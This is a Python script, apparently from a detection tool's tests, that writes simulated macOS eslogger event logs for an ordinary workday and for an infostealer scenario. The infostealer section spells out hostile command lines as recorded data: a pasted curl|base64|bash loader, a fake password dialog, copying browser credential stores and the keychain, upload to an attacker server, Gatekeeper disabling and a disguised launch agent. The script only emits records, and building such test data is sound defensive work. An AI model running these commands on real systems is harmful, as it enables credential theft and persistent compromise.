#!/usr/bin/env python3
"""Write the stories of this folder: eslogger lines in their true shape with the moment, the Mac and the conditions
under which each happens. Same input, same bytes. The recorder is that of tests/data/recordings.

Usage: tests/sim/stories/make.py     (rewrites *.ndjson beside itself)

Everything in them is invented: people, hosts, hashes, third parties; only paths and signing identifiers of macOS and
names of well-known programs are real. Addresses are from the documentation ranges of RFC 5737."""
import importlib.util
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
RECORDINGS = os.path.join(HERE, "..", "..", "data", "recordings", "make.py")
SPEC = importlib.util.spec_from_file_location("recordings", RECORDINGS)
recordings = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(recordings)
HOME, USER = recordings.HOME, recordings.USER

MICROSOFT = "UBF8T346G9"
GOOGLE = "EQHXZ8M8AV"


class Teller(recordings.Recorder):
    """A recorder whose lines become a story's. `at` moves its clock to a moment; `terms` hold for the lines that
    follow, until they are changed."""

    def __init__(self, start, seed, device=1, version=10):
        super().__init__(version, start, seed)
        self.begin = self.now()
        self.device = device
        self.terms = {}
        self.launchd["pidversion"] = 2  # one launchd a Mac, whichever story names it

    def now(self):
        return self.seconds * 1000000000 + self.nanos

    def at(self, ms):
        goal = self.begin + ms * 1000000
        if goal > self.now():
            self.mach += (goal - self.now()) * 24 // 1000
            self.seconds, self.nanos = divmod(goal, 1000000000)

    def given(self, **terms):
        self.terms = terms

    def say(self, text):
        self.terms = {**self.terms, "say": text}

    def event(self, name, number, body, actor):
        super().event(name, number, body, actor)
        record = self.lines.pop()
        at_ms = (self.now() - self.begin) // 1000000
        head = json.dumps({"at_ms": at_ms, "device": self.device, **self.terms}, separators=(",", ":"))
        self.lines.append((at_ms, self.device, f'{head[:-1]},"event":{record}}}'))
        self.terms.pop("say", None)

    # ------------------------------------------------------------ what happens on every Mac
    def start_app(self, path, signing, team=None, cwd="/"):
        """launchd starts an application, by way of xpcproxy."""
        child = self.fork(self.launchd)
        proxy = self.exec(child, "/usr/libexec/xpcproxy", ["xpcproxy", "application." + signing], cwd="/", uid=501,
                          signing="com.apple.xpc.proxy")
        app = self.exec(proxy, path, [path], cwd=cwd, uid=501, signing=signing, team=team,
                        platform=team is None and path.startswith("/System/"))
        app["responsible"] = None
        return app

    def start_shell(self, terminal):
        """A Terminal window: login as root, the user's shell below it."""
        login = self.exec(self.fork(terminal), "/usr/bin/login", ["login", "-pf", USER], uid=0,
                          signing="com.apple.login")
        login["tty"] = "/dev/ttys003"
        shell = self.exec(self.fork(login), "/bin/zsh", ["-zsh"], uid=501, signing="com.apple.zsh")
        return shell

    def command(self, parent, path, args, took_ms=0, **kw):
        """A program that runs and ends."""
        child = self.exec(self.fork(parent), path, args, **kw)
        if took_ms:
            self.at((self.now() - self.begin) // 1000000 + took_ms)
        self.exit(child)
        return child

    def save(self, app, path):
        """A document saved the safe way."""
        folder, name = os.path.split(path)
        scratch = f"{folder}/.{name}.sb-{self.rng.randrange(1 << 32):08x}"
        self.create(app, scratch)
        self.close(app, scratch)
        self.rename(app, scratch, path)


def write(name, header, tellers):
    lines = sorted((line for t in tellers for line in t.lines), key=lambda line: line[0])
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as out:
        out.write(json.dumps(header, separators=(",", ":")) + "\n")
        out.write("\n".join(text for _, _, text in lines) + "\n")


# ---------------------------------------------------------------- the infostealer

BEACON_MS = 62000
SERVER = "http://198.51.100.23"


def lure(r):
    """A web page tells to paste a line into Terminal. Returns the shell that reads its commands from a pipe."""
    r.say("opens Terminal and pastes a line that a web page told to paste")
    terminal = r.start_app("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "com.apple.Terminal")
    r.at(1200)
    shell = r.start_shell(terminal)
    r.at(5000)
    r.given(needs="network", step="loader")
    curl = r.exec(r.fork(shell), "/usr/bin/curl", ["curl", "-kfsSL", f"{SERVER}/verify/c9"], signing="com.apple.curl")
    r.given(after="loader")
    decode = r.exec(r.fork(shell), "/usr/bin/base64", ["base64", "-D"], signing="com.apple.base64")
    sh = r.exec(r.fork(shell), "/bin/sh", ["sh"], signing="com.apple.sh")
    r.at(5600)
    r.exit(curl)
    r.exit(decode)
    r.say("the loader fetches and decodes its second stage")
    stage = r.exec(r.fork(sh), "/bin/bash", ["/bin/bash", "-c", f"curl -kfsSL {SERVER}/verify/s2 | base64 -d | bash"],
                   signing="com.apple.bash")
    r.given(needs="network", step="stage", after="loader")
    fetch = r.exec(r.fork(stage), "/usr/bin/curl", ["curl", "-kfsSL", f"{SERVER}/verify/s2"],
                   signing="com.apple.curl")
    r.given(after="stage")
    decode = r.exec(r.fork(stage), "/usr/bin/base64", ["base64", "-d"], signing="com.apple.base64")
    bash = r.exec(r.fork(stage), "/bin/bash", ["bash"], signing="com.apple.bash", env=["HISTFILE=/dev/null"])
    r.exit(fetch)
    r.exit(decode)
    return bash


def ask_and_collect(r, bash, stage):
    r.at(8000)
    r.command(bash, "/usr/sbin/system_profiler", ["system_profiler", "SPSoftwareDataType", "SPHardwareDataType"],
              signing="com.apple.SystemProfiler", took_ms=900)
    r.at(11000)
    r.say("a script asks for the password")
    dialog = r.exec(r.fork(bash), "/usr/bin/osascript", [
        "osascript", "-e", "display dialog \"macOS needs your password to verify that you are human.\" & return & "
        f"\"Enter it for user {USER}.\" default answer \"\" with icon caution buttons {{\"Continue\"}} default button "
        "\"Continue\" giving up after 150 with title \"System Preferences\" with hidden answer"],
        signing="com.apple.osascript")
    r.at(17500)
    r.exit(dialog)
    r.say("checks the password that was typed")
    r.command(bash, "/usr/bin/dscl", ["dscl", ".", "authonly", USER, "correct horse"], signing="com.apple.dscl")
    r.at(20000)
    r.command(bash, "/bin/mkdir", ["mkdir", "-p", stage], signing="com.apple.mkdir")
    r.say("copies browser stores and the keychain")
    chrome = f"{HOME}/Library/Application Support/Google/Chrome/Default"
    firefox = f"{HOME}/Library/Application Support/Firefox/Profiles/8x1k2m3n.default-release"
    for at, source, label in [(20600, f"{chrome}/Login Data", "Login Data"), (21700, f"{chrome}/Cookies", "Cookies"),
                              (22900, f"{firefox}/key4.db", "key4.db")]:
        r.at(at)
        cp = r.exec(r.fork(bash), "/bin/cp", ["cp", source, f"{stage}/{label}"], signing="com.apple.cp")
        r.open(cp, source)
        r.clone(cp, source, f"{stage}/{label}")
        r.exit(cp)
    r.at(25500)
    keychain = f"{HOME}/Library/Keychains/login.keychain-db"
    cat = r.exec(r.fork(bash), "/bin/cat", ["cat", keychain], signing="com.apple.cat")
    r.open(cat, keychain)
    r.exit(cat)
    r.at(26800)
    r.command(bash, "/usr/bin/security", ["security", "find-generic-password", "-ga", "Chrome Safe Storage"],
              signing="com.apple.security", took_ms=300)
    r.at(29000)
    grab = r.exec(r.fork(bash), "/usr/bin/find", ["find", f"{HOME}/Documents", f"{HOME}/Desktop", "-size", "-2M",
                                                  "-name", "*.pdf"], signing="com.apple.find")
    r.open(grab, f"{HOME}/Documents/Contract 2026.pdf")
    r.exit(grab)


def pack_and_send(r, bash, stage):
    r.at(32500)
    r.say("packs what it found")
    ditto = r.exec(r.fork(bash), "/usr/bin/ditto", ["ditto", "-c", "-k", "--sequesterRsrc", stage, "/tmp/out.zip"],
                   signing="com.apple.ditto")
    r.create(ditto, "/private/tmp/out.zip")
    r.close(ditto, "/private/tmp/out.zip")
    r.exit(ditto)
    r.at(36000)
    r.given(after="stage", needs="network", step="upload")
    r.say("uploads it")
    curl = r.exec(r.fork(bash), "/usr/bin/curl", ["curl", "-s", "-X", "POST", "-H", "BuildID: 7f3a", "-F",
                                                  "file=@/tmp/out.zip", f"{SERVER}/contact"], signing="com.apple.curl")
    r.at(38500)
    r.exit(curl)
    r.given(after="stage")


def stay(r, bash):
    """The second stage: weakens the Mac, writes itself into LaunchAgents, runs hidden."""
    agent = f"{HOME}/Library/.com.apple.metadata/updater"
    r.at(40500)
    sudo = r.exec(r.fork(bash), "/usr/bin/sudo", ["sudo", "-S", "spctl", "--global-disable"], uid=0,
                  signing="com.apple.sudo")
    r.event("sudo", 131, {"success": True, "reject_info": None, "from_uid": 501, "from_username": USER, "to_uid": 0,
                          "to_username": "root", "command": "/usr/sbin/spctl"}, sudo)
    r.say("switches Gatekeeper off with the stolen password")
    r.command(sudo, "/usr/sbin/spctl", ["spctl", "--global-disable"], uid=0, signing="com.apple.spctl")
    r.exit(sudo)
    r.at(44000)
    r.given(after="stage", needs="network", step="payload")
    r.say("fetches a program that stays")
    curl = r.exec(r.fork(bash), "/usr/bin/curl", ["curl", "-s", "-o", agent, f"{SERVER}/bin/updater"],
                  signing="com.apple.curl")
    r.create(curl, agent, existing=False)
    r.exit(curl)
    r.given(after="payload")
    r.at(46500)
    xattr = r.exec(r.fork(bash), "/usr/bin/xattr", ["xattr", "-d", "com.apple.quarantine", agent],
                   signing="com.apple.xattr")
    r.exit(xattr)
    chmod = r.exec(r.fork(bash), "/bin/chmod", ["chmod", "755", agent], signing="com.apple.chmod")
    r.event("setmode", 29, {"mode": 0o755, "target": r.file(agent, uid=501, mode=0o100644)}, chmod)
    r.exit(chmod)
    r.at(49000)
    plist = f"{HOME}/Library/LaunchAgents/com.apple.softwareupdate.helper.plist"
    r.say("writes and loads a launch agent")
    r.create(bash, plist)
    r.close(bash, plist)
    r.at(50500)
    r.command(bash, "/bin/launchctl", ["launchctl", "bootstrap", "gui/501", plist], signing="com.apple.xpc.launchctl")
    btm = recordings.daemon(r, "/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/"
                            "backgroundtaskmanagementd", "com.apple.backgroundtaskmanagementd")
    r.launch_item(btm, None, 3, "file://" + plist, agent, True)
    r.at(53000)
    r.say("the hidden program runs and begins to call home")
    updater = r.exec(r.fork(r.launchd), agent, [agent, "--hidden"], cwd="/", uid=501, adhoc=True,
                     signing="updater-5555494422cb3e8e0a4c3d2b9e4f1d0c9a8b7c6d")
    updater["tty"] = None
    return updater


def infostealer():
    r = Teller(1767000000, 41)
    stage = "/private/tmp/.c9"
    bash = lure(r)
    ask_and_collect(r, bash, stage)
    pack_and_send(r, bash, stage)
    updater = stay(r, bash)
    r.given(after="stage")
    r.at(56000)
    r.unlink(bash, "/private/tmp/out.zip")
    r.command(bash, "/bin/rm", ["rm", "-rf", stage], signing="com.apple.rm")
    r.at(58000)
    r.exit(bash)
    r.at(BEACON_MS)
    r.given(after="payload", needs="network")
    r.say("calls home, and from now on every few seconds")
    curl = r.exec(r.fork(updater), "/usr/bin/curl", ["curl", "-s", "-m", "5", "https://cdn-telemetry.example/p?i=7f3a"],
                  cwd="/", signing="com.apple.curl")
    r.at(BEACON_MS + 700)
    r.given(after="payload")
    r.exit(curl)
    write("infostealer.ndjson", {
        "story": "infostealer", "user": USER, "cast": 1, "everywhere": False, "start_ms": 10000,
        "loop_from_ms": BEACON_MS, "loop_ms": 6000}, [r])


# ---------------------------------------------------------------- an ordinary day

def designer(r):
    """Presentations, mail, a browser."""
    r.at(800)
    mail = r.start_app("/System/Applications/Mail.app/Contents/MacOS/Mail", "com.apple.mail")
    r.at(9000)
    keynote = r.start_app("/Applications/Keynote.app/Contents/MacOS/Keynote", "com.apple.iWork.Keynote",
                          team="74J34U3R6X")
    for at in (15000, 61000, 118000):
        r.at(at)
        r.save(keynote, f"{HOME}/Documents/Autumn launch.key")
    r.at(125000)
    r.create(mail, f"{HOME}/Library/Mail Downloads/Menu.pdf")
    r.event("setextattr", 27, {"target": r.file(f"{HOME}/Library/Mail Downloads/Menu.pdf", uid=501),
                               "extattr": "com.apple.quarantine"}, mail)
    r.at(150000)
    r.exit(keynote)
    r.exit(mail)


def developer(r):
    """Git, a native build, Homebrew, a remote machine."""
    terminal = r.start_app("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "com.apple.Terminal")
    r.at(600)
    shell = r.start_shell(terminal)
    src = f"{HOME}/src/orchard"
    r.at(4000)
    git = r.exec(r.fork(shell), "/usr/bin/git", ["git", "pull", "--rebase"], cwd=src, signing="com.apple.git")
    r.command(git, "/usr/bin/ssh", ["ssh", "git@git.example.com", "git-upload-pack 'orchard.git'"], cwd=src,
              signing="com.apple.openssh")
    r.exit(git)
    r.at(12000)
    make = r.exec(r.fork(shell), "/usr/bin/make", ["make", "-j8"], cwd=src, signing="com.apple.make")
    for number, name in enumerate(["tree", "index", "query", "main"]):
        r.at(12500 + number * 900)
        clang = r.exec(r.fork(make), "/usr/bin/clang", ["clang", "-O2", "-c", f"{name}.c", "-o", f"build/{name}.o"],
                       cwd=src, signing="com.apple.clang")
        r.create(clang, f"{src}/build/{name}.o")
        r.exit(clang)
    r.at(17000)
    r.command(make, "/usr/bin/ld", ["ld", "-o", "build/orchard", "build/main.o"], cwd=src, signing="com.apple.ld")
    r.exit(make)
    r.command(shell, f"{src}/build/orchard", ["./build/orchard", "--self-test"], cwd=src, adhoc=True,
              signing="orchard-55554944", took_ms=700)
    r.at(38000)
    brew = r.exec(r.fork(shell), "/bin/bash", ["/bin/bash", "-p", "/opt/homebrew/bin/brew", "upgrade"],
                  script="/opt/homebrew/bin/brew", signing="com.apple.bash")
    ruby = r.exec(r.fork(brew), "/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.4.7/bin/ruby",
                  ["ruby", "-W1", "/opt/homebrew/Library/Homebrew/brew.rb", "upgrade"], adhoc=True, signing="ruby")
    r.command(ruby, "/usr/bin/curl", ["/usr/bin/curl", "--disable", "--fail", "--location", "--silent",
                                      "https://formulae.brew.example/api/formula.jws.json"], signing="com.apple.curl")
    r.command(ruby, "/usr/bin/tar", ["tar", "--extract", "--no-same-owner", "--file",
                                     f"{HOME}/Library/Caches/Homebrew/downloads/jq--1.8.1.tar.gz", "--directory",
                                     "/private/tmp/d20260101-jq"], signing="com.apple.tar")
    r.command(ruby, "/usr/bin/xattr", ["/usr/bin/xattr", "-w", "com.apple.metadata:source", "brew",
                                       "/opt/homebrew/Cellar/jq/1.8.1"], signing="com.apple.xattr")
    r.exit(ruby)
    r.exit(brew)
    r.at(92000)
    ssh = r.exec(r.fork(shell), "/usr/bin/ssh", ["ssh", "build.example.com"], signing="com.apple.openssh")
    r.at(140000)
    r.exit(ssh)
    r.exit(shell, 0)


def scientist(r):
    """Python, packages for JavaScript, a container."""
    terminal = r.start_app("/Applications/iTerm.app/Contents/MacOS/iTerm2", "com.googlecode.iterm2", team="H7V7XYVQ7D")
    r.at(700)
    shell = r.start_shell(terminal)
    src = f"{HOME}/src/harvest"
    r.at(6000)
    python = r.exec(r.fork(shell), "/opt/homebrew/Cellar/python@3.14/3.14.0/bin/python3.14",
                    ["python3", "-m", "venv", ".venv"], cwd=src, adhoc=True, signing="python3.14")
    r.create(python, f"{src}/.venv/pyvenv.cfg")
    r.exit(python)
    pip = r.exec(r.fork(shell), f"{src}/.venv/bin/python3.14", ["python3", "-m", "pip", "install", "-r",
                                                               "requirements.txt"], cwd=src, adhoc=True,
                 signing="python3.14")
    r.at(21000)
    r.create(pip, f"{src}/.venv/lib/python3.14/site-packages/numpy/__init__.py")
    r.exit(pip)
    r.at(30000)
    node = r.exec(r.fork(shell), "/opt/homebrew/bin/node", ["node", "/opt/homebrew/bin/npm", "ci"], cwd=src,
                  signing="node", adhoc=True)
    r.command(node, "/bin/sh", ["sh", "-c", "node scripts/postinstall.js"], cwd=f"{src}/node_modules/grain",
              env=["npm_lifecycle_event=postinstall"], signing="com.apple.sh", took_ms=400)
    r.create(node, f"{src}/node_modules/.package-lock.json")
    r.exit(node)
    r.at(55000)
    docker = r.exec(r.fork(shell), "/Applications/Docker.app/Contents/Resources/bin/docker",
                    ["docker", "run", "--rm", "-v", f"{src}:/work", "postgres:18"], cwd=src,
                    signing="com.docker.docker", team="9BNSXJN65R")
    r.at(110000)
    r.exit(docker)
    r.command(shell, "/usr/bin/tar", ["tar", "czf", f"{HOME}/Desktop/harvest-results.tar.gz", "results"], cwd=src,
              signing="com.apple.tar", took_ms=800)
    r.at(128000)
    r.command(shell, "/usr/bin/rsync", ["rsync", "-a", "results/", "store.example.com:/harvest/"], cwd=src,
              signing="com.apple.rsync", took_ms=3000)
    r.exit(shell)


def accountant(r):
    """Office and a synchronised folder."""
    word = r.start_app("/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", "com.microsoft.Word",
                       team=MICROSOFT)
    r.at(5000)
    excel = r.start_app("/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "com.microsoft.Excel",
                        team=MICROSOFT)
    for at in (14000, 52000, 97000, 131000):
        r.at(at)
        r.save(excel, f"{HOME}/OneDrive/Budget 2026.xlsx")
    r.at(40000)
    updater = r.start_app("/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/"
                          "Microsoft AutoUpdate", "com.microsoft.autoupdate2", team=MICROSOFT)
    r.create(updater, f"{HOME}/Library/Caches/com.microsoft.autoupdate2/Word.pkg")
    r.at(44000)
    r.exit(updater)
    r.at(99000)
    r.save(word, f"{HOME}/Documents/Minutes.docx")
    r.at(146000)
    r.exit(word)
    r.exit(excel)


def assistant(r):
    """A browser, a download that is installed, a system update, a calendar app that registers its helper."""
    chrome = r.start_app("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", "com.google.Chrome",
                         team=GOOGLE)
    r.at(2000)
    profile = f"{HOME}/Library/Application Support/Google/Chrome/Default"
    r.save(chrome, f"{profile}/Preferences")
    r.rename(chrome, f"{profile}/Cookies-journal", f"{profile}/Cookies-old")
    r.at(18000)
    r.create(chrome, f"{HOME}/Downloads/Plumtree-4.2.pkg")
    r.event("setextattr", 27, {"target": r.file(f"{HOME}/Downloads/Plumtree-4.2.pkg", uid=501),
                               "extattr": "com.apple.quarantine"}, chrome)
    r.at(30000)
    installer = r.start_app("/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer",
                            "com.apple.installer")
    installd = recordings.daemon(r, "/System/Library/PrivateFrameworks/PackageKit.framework/Resources/installd",
                                 "com.apple.installd")
    r.create(installd, "/Applications/Plumtree.app/Contents/MacOS/Plumtree")
    r.create(installd, "/Library/LaunchDaemons/com.example.plumtree.helper.plist")
    r.exit(installer)
    r.at(41000)
    plumtree = r.start_app("/Applications/Plumtree.app/Contents/MacOS/Plumtree", "com.example.plumtree",
                           team="P4L7M2T9RE")
    btm = recordings.daemon(r, "/System/Library/PrivateFrameworks/BackgroundTaskManagement.framework/Resources/"
                            "backgroundtaskmanagementd", "com.apple.backgroundtaskmanagementd")
    r.launch_item(btm, plumtree, 2, "file:///Applications/Plumtree.app/Contents/Library/LoginItems/Helper.app/",
                  "Contents/MacOS/Helper", False, app_url="file:///Applications/Plumtree.app/")
    r.at(80000)
    update = recordings.daemon(r, "/System/Library/CoreServices/Software Update.app/Contents/Resources/"
                               "softwareupdated", "com.apple.softwareupdated")
    r.create(update, "/Library/Updates/082-41241/XProtectPayloads.pkg")
    r.at(84000)
    r.command(update, "/usr/sbin/installer", ["installer", "-pkg", "/Library/Updates/082-41241/XProtectPayloads.pkg",
                                              "-target", "/"], uid=0, signing="com.apple.installer", took_ms=1500)
    r.at(132000)
    r.exit(plumtree)
    r.exit(chrome)


def workday():
    tellers = []
    for device, tell in enumerate([designer, developer, scientist, accountant, assistant], 1):
        r = Teller(1767000000, 50 + device, device=device, version=9 if device == 2 else 10)
        r.next_pid, r.pidversion = 1200 + 200 * device, 3000 + 1000 * device
        tell(r)
        tellers.append(r)
    write("workday.ndjson", {"story": "workday", "user": USER, "cast": 5, "everywhere": True, "start_ms": 1000,
                             "repeat_ms": 20000}, tellers)


if __name__ == "__main__":
    infostealer()
    workday()
